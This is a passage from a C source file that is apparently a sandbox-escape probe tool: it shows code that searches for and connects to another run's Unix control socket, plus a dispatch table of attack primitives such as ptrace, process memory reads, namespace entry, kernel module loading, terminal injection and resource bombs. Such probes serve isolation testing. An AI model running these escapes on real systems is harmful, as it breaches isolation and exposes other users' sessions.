        const char *slash = strrchr(own + i, '/');
        if (own[i] == '/' && slash != NULL && slash != own + i) {
            snprintf(dirs[ndirs], sizeof dirs[0], "%.*s", (int) (slash - (own + i)), own + i);
            ndirs++;
        }
    }
    for (int i = 1; a[i] != NULL && ndirs < 8; i++) {
        snprintf(dirs[ndirs++], sizeof dirs[0], "%s", a[i]);
    }
    time_t deadline = time(NULL) + atoi(a[0]);
    int tried = 0, last = ENOENT;
    while (time(NULL) < deadline) {
        for (int d = 0; d < ndirs; d++) {
            DIR *dir = opendir(dirs[d]);
            if (dir == NULL) {
                last = errno;
                continue;
            }
            struct dirent *e;
            while ((e = readdir(dir)) != NULL) {
                char path[8192];
                snprintf(path, sizeof path, "%s/%s", dirs[d], e->d_name);
                struct stat st;
                if (lstat(path, &st) != 0 || !S_ISSOCK(st.st_mode) || memmem(own, n > 0 ? n : 0, e->d_name,
                        strlen(e->d_name)) != NULL) {
                    continue;
                }
                tried++;
                int s = connect_unix(path, 0);
                if (s < 0) {
                    last = errno;
                    continue;
                }
                struct timeval tv = {.tv_sec = 1};
                setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
                char buf[65536];
                ssize_t got = read(s, buf, sizeof buf);
                printf("ESCAPED: connected to another run's socket %s and read %zd bytes\n", path, got);
                return 0;
            }
            closedir(dir);
        }
    }
    printf("watched %d directories, tried %d sockets\n", ndirs, tried);
    errno = last;
    return refused("no other run's control socket");
}

struct command {
    const char *name;
    int args;
    int (*fn)(char **);
};

static const struct command COMMANDS[] = {
    {"readfile", 2, cmd_readfile}, {"proclinks", 2, cmd_proclinks}, {"chroot", 3, cmd_chroot},
    {"mount", 1, cmd_mount}, {"umount", 0, cmd_umount}, {"pivotroot", 1, cmd_pivotroot},
    {"remount", 1, cmd_remount}, {"fsopen", 0, cmd_fsopen}, {"handlegen", 1, cmd_handlegen},
    {"handleopen", 2, cmd_handleopen}, {"symlink", 3, cmd_symlink}, {"hardlink", 2, cmd_hardlink},
    {"writero", 1, cmd_writero}, {"findproc", 1, cmd_findproc}, {"signal", 1, cmd_signal},
    {"ptrace", 1, cmd_ptrace}, {"procmem", 1, cmd_procmem}, {"environ", 1, cmd_environ},
    {"fdscan", 0, cmd_fdscan}, {"control", 1, cmd_control}, {"connectunix", 1, cmd_connectunix},
    {"connecttcp", 3, cmd_connecttcp}, {"packet", 0, cmd_packet}, {"setns", 1, cmd_setns},
    {"unshareuser", 0, cmd_unshareuser}, {"clonenewuser", 0, cmd_clonenewuser},
    {"clone3newuser", 0, cmd_clone3newuser}, {"capset", 0, cmd_capset}, {"ambient", 0, cmd_ambient},
    {"privread", 2, cmd_privread}, {"setfcap", 1, cmd_setfcap}, {"tiocsti", 0, cmd_tiocsti},
    {"tioclinux", 0, cmd_tioclinux}, {"iouring", 0, cmd_iouring}, {"userfaultfd", 0, cmd_userfaultfd},
    {"bpf", 0, cmd_bpf}, {"perf", 0, cmd_perf}, {"keyring", 0, cmd_keyring}, {"kexec", 0, cmd_kexec},
    {"reboot", 0, cmd_reboot}, {"module", 0, cmd_module}, {"iopl", 0, cmd_iopl}, {"syslog", 0, cmd_syslog},
    {"swapoff", 0, cmd_swapoff}, {"acct", 0, cmd_acct}, {"openany", 1, cmd_openany}, {"mknod", 1, cmd_mknod},
    {"writeback", 1, cmd_writeback}, {"cgroupprocs", 0, cmd_cgroupprocs}, {"bombpids", 1, cmd_bombpids},
    {"bombmem", 1, cmd_bombmem}, {"bombdisk", 2, cmd_bombdisk}, {"clock", 0, cmd_clock},
    {"hostname", 1, cmd_hostname}, {"daemon", 1, cmd_daemon}, {"antitimeout", 1, cmd_antitimeout},
    {"x32", 0, cmd_x32}, {"int80", 1, cmd_int80}, {"personality", 0, cmd_personality}, {"serve", 2, cmd_serve}, {"takeover", 1, cmd_takeover},
};

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) {
        fprintf(stderr, "usage: attack NAME ARGS...\n");
        return 4;
    }
    for (size_t i = 0; i < sizeof COMMANDS / sizeof COMMANDS[0]; i++) {
        if (strcmp(argv[1], COMMANDS[i].name) == 0) {
            if (argc - 2 < COMMANDS[i].args) {
                fprintf(stderr, "%s needs %d arguments\n", argv[1], COMMANDS[i].args);
                return 4;
            }
            return COMMANDS[i].fn(argv + 2);
        }
    }
    fprintf(stderr, "no attack %s\n", argv[1]);
    return 4;
}
